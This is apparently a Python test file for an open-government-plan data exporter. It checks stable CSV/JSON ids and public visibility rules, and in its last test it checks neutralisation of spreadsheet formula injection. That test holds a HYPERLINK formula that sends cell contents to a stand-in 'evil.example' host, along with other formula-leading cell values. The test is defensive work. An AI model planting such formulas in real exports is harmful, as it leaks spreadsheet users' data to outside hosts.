"""Open data with stable ids, read back from the CSV and JSON files."""

from __future__ import annotations

import csv
import io
import json
import zipfile

from plan_story import PLAN, TII, Story

from audit.exports.opendata import open_data, write_csv_zip
from audit.exports.plan import load_plan
from process.permissions import can_read


def csv_rows(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    text = archive.read(name).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_tables_have_stable_ogp_style_ids(story: Story) -> None:
    out = io.BytesIO()
    data = open_data(await load_plan(story.store, PLAN))
    write_csv_zip(data, out)
    archive = zipfile.ZipFile(out)
    assert sorted(archive.namelist()) == [
        "commitments.csv", "contributions.csv", "evidence.csv", "forum.csv", "inputs.csv",
        "milestones.csv", "plan.json", "progress.csv", "sessions.csv", "signoffs.csv"]
    commitments = csv_rows(archive, "commitments.csv")
    assert [(c["id"], c["lead_agency"], c["milestones"]) for c in commitments] == [
        ("ID0121", "Kementerian Sosial", "2"), ("ID0002", "", "0")]
    assert commitments[0]["section_problem"].endswith("closed to public scrutiny.")
    milestones = csv_rows(archive, "milestones.csv")
    assert [(m["id"], m["commitment_id"], m["end"]) for m in milestones] == [
        ("ID0121-M1", "ID0121", "2023-06-30"), ("ID0121-M2", "ID0121", "2024-06-30")]
    sessions = csv_rows(archive, "sessions.csv")
    assert len(sessions) == 1
    session = sessions[0]
    assert session["id"] == "S001-TC" and session["date"] == "2023-03-12"
    assert session["attendance"] == ("Transparency International Indonesia; Suarise; "
                                     "Sekretariat OGI")
    assert session["minutes"] == "Agreed to split publication by region."
    assert session["document_edits"] == "1"  # the edit made during the teleconference
    inputs = csv_rows(archive, "inputs.csv")
    assert len(inputs) == 1
    row = inputs[0]
    assert row["id"] == "ID0121-PI001" and row["section"] == "commitment"
    assert row["text"] == "Publish the data every month."
    assert row["response_status"] == "partly"
    assert row["response_reason"].startswith("Quarterly instead of monthly")
    assert row["responded_by"] == "Sekretariat OGI" and row["change_position"]
    contributions = csv_rows(archive, "contributions.csv")
    assert all(c["id"] == f"E{c['position']}" for c in contributions)
    kemensos = [c for c in contributions if c["organisation"] == "Kementerian Sosial"]
    assert [(c["commitment_id"], c["stage"], c["type"]) for c in kemensos] == [
        ("ID0121", "draft3", "crdt.update")] * 3
    public = [c for c in contributions if c["stakeholder"] == "public"]
    assert len(public) == 1 and public[0]["person"] == ""  # the public's names stay out
    assert not any("contact" in column for column in data.tables["inputs"][0])

    document = json.loads(archive.read("plan.json"))
    assert document["plan"]["id"] == PLAN and document["plan"]["stage"] == "final"
    assert document["commitments"] == data.tables["commitments"]

    # The same ids come out of a second export: they are stable.
    again = open_data(await load_plan(story.store, PLAN))
    assert [c["id"] for c in again.tables["contributions"]] == [c["id"] for c in contributions]


async def test_the_public_sees_only_published_commitments(story: Story) -> None:
    # Publish only commitment 2 in a fresh plan state? Here everything was published in
    # Draft 4, so check the snapshot of Draft 3, before publication.
    view = await load_plan(story.store, PLAN, stage="draft3",
                           visible=lambda state, c: can_read(state, None, c).allowed)
    data = open_data(view)
    assert data.tables["commitments"] == []
    assert data.tables["milestones"] == [] and data.tables["inputs"] == []
    assert all(c["commitment_id"] == "" for c in data.tables["contributions"])


HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik / Click")'


async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(story: Story) -> None:
    """OWASP CSV injection: a cell opening with = + - @ (or a tab or carriage return) is
    prefixed with a quote, so a spreadsheet shows the text instead of running it."""
    await story.welfare.edit(TII, "final", lambda c: c.retitle(HYPERLINK))
    await story.welfare.edit(TII, "final", lambda c: c.milestones()[0].update({
        "activity": "+62 21 000 000", "deliverable": "-1+1", "output": "@SUM(A1:A9)",
        "actors": "\t=1+1", "start": "\r=1+1"}))
    data = open_data(await load_plan(story.store, PLAN))
    data.tables["inputs"][0]["text"] = "=HYPERLINK(\"https://evil.example\")"
    out = io.BytesIO()
    write_csv_zip(data, out)
    archive = zipfile.ZipFile(out)
    commitments = csv_rows(archive, "commitments.csv")
    assert commitments[0]["title"] == "'" + HYPERLINK
    milestone = csv_rows(archive, "milestones.csv")[0]
    assert [milestone[k] for k in ("activity", "deliverable", "output", "actors", "start")] == [
        "'+62 21 000 000", "'-1+1", "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1"]
    assert milestone["end"] == "2023-06-30"  # ordinary text stays as it was
    assert csv_rows(archive, "inputs.csv")[0]["text"] == "'=HYPERLINK(\"https://evil.example\")"
    # The JSON keeps the exact text: only spreadsheets run formulas.
    assert json.loads(archive.read("plan.json"))["commitments"][0]["title"] == HYPERLINK
